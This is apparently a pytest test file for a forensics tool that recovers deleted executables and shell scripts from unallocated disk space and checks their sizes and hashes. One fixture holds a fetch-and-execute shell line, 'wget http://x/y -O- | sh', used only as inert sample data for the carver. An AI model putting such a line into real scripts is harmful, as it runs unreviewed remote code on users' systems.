"""Programs in unallocated space that nothing names any more."""

import hashlib
import struct
import sys
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forensics.evidence import open_evidence
from forensics.recovery.carving.executables import find_executables
from forensics.recovery.carving.scan import scan_space
from forensics.recovery.carving.space import UNALLOCATED, spaces
from forensics.survey import survey
from parsers.elf import file_size, parse_elf_header
from support.cli import ask, run_cli
from support.ext4_images import make
from support.free_space import BLOCK, blocks, space

SCRIPT = b"#!/bin/sh\nwget http://x/y -O- | sh\n" + b"# padding\n" * 200


def programs():
    """ELF files of this machine, of the linker's own making."""
    found = [Path("/bin/true"), Path("/usr/bin/env"), Path(sys.executable).resolve()]
    found += sorted(Path("/lib").glob("*/libm.so.6"))[:1] + sorted(Path("/lib").glob("*/libutil.so.1"))[:1]
    return [path.resolve() for path in found if path.is_file() and path.read_bytes()[:4] == b"\x7fELF"]


def carved(data, **where):
    return list(find_executables(scan_space(space(data, **where), lambda size: None)))


def sha256(data):
    return hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize("path", programs(), ids=str)
def test_a_programs_size_is_that_of_its_file(path):
    data = path.read_bytes()
    header = parse_elf_header(data)
    segments = data[header.segment_table :][: header.segment_size * header.segment_count]
    sections = data[header.section_table :][: header.section_size * header.section_count]
    assert file_size(header, segments, sections) == len(data)


@pytest.mark.parametrize("path", programs(), ids=str)
def test_a_program_in_one_piece_is_carved_whole(path):
    data = path.read_bytes()
    (found,) = carved(blocks(b"\0", data, b"noise"))
    assert (found.start, found.size, found.sha256) == (BLOCK, len(data), sha256(data))


def test_one_of_which_the_end_is_elsewhere_has_a_size_and_no_hash():
    data = programs()[0].read_bytes()
    half = len(data) // BLOCK // 2 * BLOCK
    for found in (carved(data[:half] + blocks(b"other") + blocks(data[half:])), carved(blocks(data), runs=[(0, half // BLOCK)])):
        assert [(each.start, each.sha256) for each in found] == [(0, None)]


def test_a_script_ends_where_its_text_ends():
    (found,) = carved(blocks(SCRIPT, b"\x80\x81"))
    assert (found.size, found.sha256) == (len(SCRIPT), sha256(SCRIPT))


def test_of_a_script_that_runs_on_to_allocated_blocks_the_content_is_not_known():
    (found,) = carved(blocks(SCRIPT)[:BLOCK] + blocks(b"x"), runs=[(0, 1)])
    assert (found.size, found.sha256) == (BLOCK, None)


NONE = [
    b"#!\n",
    b"#! no path\n",
    b"#!/bin/sh",
    b"\x7fELF",
    b"\x7fELF\x02\x01\x01" + bytes(57),
    b"\x7fELF\x02\x01\x01"
    + bytes(9)
    + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 1 << 62, 1 << 63, 0, 64, 56, 65535, 64, 65535, 1),
    b"\x7fELF\x01\x02\x01" + bytes(9) + struct.pack(">HHIIIIIHHHHHH", 2, 8, 1, 0, 52, 52, 0, 52, 32, 65535, 40, 65535, 65534),
    b"\x7fELF\x09\x09" + b"\xff" * 58,
]


@pytest.mark.parametrize("content", NONE, ids=range(len(NONE)))
def test_what_only_begins_alike_is_none(content):
    assert [each for each in carved(content.ljust(BLOCK, b"\0")) if each.sha256 is not None] == []


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_any_damage_is_survived(data):
    content = bytearray(blocks(programs()[0].read_bytes(), SCRIPT))
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.one_of(st.integers(0, 200), st.integers(0, len(content) - 1)))] = data.draw(st.integers(0, 255))
    for each in carved(content):
        if each.sha256 is not None:
            assert each.sha256 == sha256(content[each.start : each.start + each.size])


def test_they_are_deleted_files_without_a_path_where_it_is_asked_for(tmp_path):
    program = programs()[0].read_bytes()
    image, case = tmp_path / "disk.img", tmp_path / "case.db"
    make(image)
    with open_evidence([image]) as evidence:
        (free,) = spaces(survey(evidence, True), UNALLOCATED)
    start = int(free.starts[np.argmax(free.ends - free.starts)])
    with image.open("r+b") as disk:
        disk.seek(start)
        disk.write(program.ljust(-(-len(program) // 4096) * 4096, b"\0") + SCRIPT)
    question = "SELECT * FROM deleted_files WHERE method = 'carved' ORDER BY size"
    run_cli("carve", image, "-o", case)
    assert ask(case, question) == []
    run_cli("carve", image, "-o", case, "--force", "--carve-executables")
    rows = ask(case, question)
    expected = sorted((len(each), sha256(each)) for each in (program, SCRIPT))
    assert [(row["size"], row["sha256"]) for row in rows] == expected
    assert {(row["path"], row["confidence"], row["container_id"]) for row in rows} == {(None, "possible", None)}
    data = image.read_bytes()
    for row in rows:
        assert sha256(data[row["offset"] : row["offset"] + row["size"]]) == row["sha256"]
        out = tmp_path / f"{row['deleted_number']}.bin"
        run_cli("extract", case, "--deleted", row["deleted_number"], "-o", out)
        assert sha256(out.read_bytes()) == row["sha256"]
    run_cli("carve", image, "-o", case, "--force", "--carve", "none", "--carve-executables", expect=2)
